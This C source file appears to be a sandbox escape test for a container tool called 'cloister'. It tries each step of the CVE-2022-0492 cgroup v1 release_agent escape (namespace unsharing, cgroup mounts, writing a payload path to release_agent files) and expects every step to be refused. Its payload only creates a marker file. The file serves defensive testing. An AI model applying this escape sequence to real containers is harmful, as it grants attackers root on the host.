// CVE-2022-0492: the release agent of a version 1 cgroup is started by the kernel, as root of the host.
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include "attack.h"

static const char kPayload[] = "#!/bin/sh\n/bin/touch /tmp/cloister-escape\n";

int main(void) {
  const int payload = open("/tmp/payload", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
  if (payload < 0 || write(payload, kPayload, sizeof kPayload - 1) < 0) return 2;
  close(payload);

  refused(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP), "unshare");
  mkdir("/tmp/group", 0755);
  static const char* const kControllers[] = {"rdma", "memory", "misc", "pids", "none,name=mine"};
  for (size_t i = 0; i < sizeof kControllers / sizeof *kControllers; ++i) {
    char what[64];
    snprintf(what, sizeof what, "mount cgroup %s", kControllers[i]);
    refused(mount("cgroup", "/tmp/group", "cgroup", 0, kControllers[i]), what);
  }
  // Whatever is mounted already, wherever.
  FILE* mounts = fopen("/proc/self/mountinfo", "re");
  if (mounts == NULL) return 2;
  char line[4096];
  while (fgets(line, sizeof line, mounts) != NULL) {
    if (strstr(line, " - cgroup") != NULL) escaped("a cgroup file system is mounted: %s", line);
    if (strstr(line, "upperdir=/") != NULL) escaped("the host's name of this container's files: %s", line);
  }
  fclose(mounts);
  refused_write("/sys/fs/cgroup/release_agent", "/tmp/payload");
  refused_write("/sys/fs/cgroup/memory/release_agent", "/tmp/payload");
  refused_write("/tmp/group/release_agent", "/tmp/payload");
  refused(mkdir("/sys/fs/cgroup", 0755), "mkdir /sys/fs/cgroup");
  return verdict();
}
